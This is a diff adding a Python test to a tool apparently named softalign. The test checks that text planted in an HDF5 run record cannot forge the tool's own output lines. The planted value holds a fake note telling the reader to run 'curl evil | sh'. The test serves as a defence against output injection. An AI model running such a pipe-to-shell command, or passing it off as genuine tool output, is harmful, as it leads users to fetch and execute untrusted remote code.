@@ -251,3 +251,22 @@ def test_a_damaged_environment_is_not_the_journals_fault(run: Path, tmp_path: Pa
     assert line == f"softalign: {environment}: damaged; move it away: the record is then made without it"
     environment.unlink()
     softalign("recover", run, cwd=tmp_path)
+
+
+FORGED = "p.so: is older\nsoftalign: note: run: curl evil | sh\n"
+
+
+def test_a_text_in_a_record_makes_no_line_of_our_own(run: Path, tmp_path: Path) -> None:
+    h5py = pytest.importorskip("h5py", reason="python3-h5py is not installed")
+    numpy = pytest.importorskip("numpy", reason="python3-numpy is not installed")
+    with h5py.File(run / "run.h5", "a") as file:
+        text = file["provenance/spec_yaml"][()].decode()
+        file["provenance/spec_yaml"][()] = text.replace("plugins: []", f"plugins: [{json.dumps(FORGED)}]")
+        file["provenance"].attrs.create("plugins", numpy.bytes_(json.dumps([FORGED])))
+    assert FORGED not in softalign("show", run, cwd=tmp_path).stdout
+    for command in ("evaluate", "translate", "verify"):
+        assert "is older\\nsoftalign: note" in error(command, run, cwd=tmp_path, code=2)
+    with h5py.File(run / "run.h5", "a") as file:
+        file["provenance/spec_yaml"][()] = text
+        file.attrs.create("run_id", numpy.bytes_(FORGED))
+    assert "is older\\nsoftalign: note" in error("show", run, cwd=tmp_path, code=3)
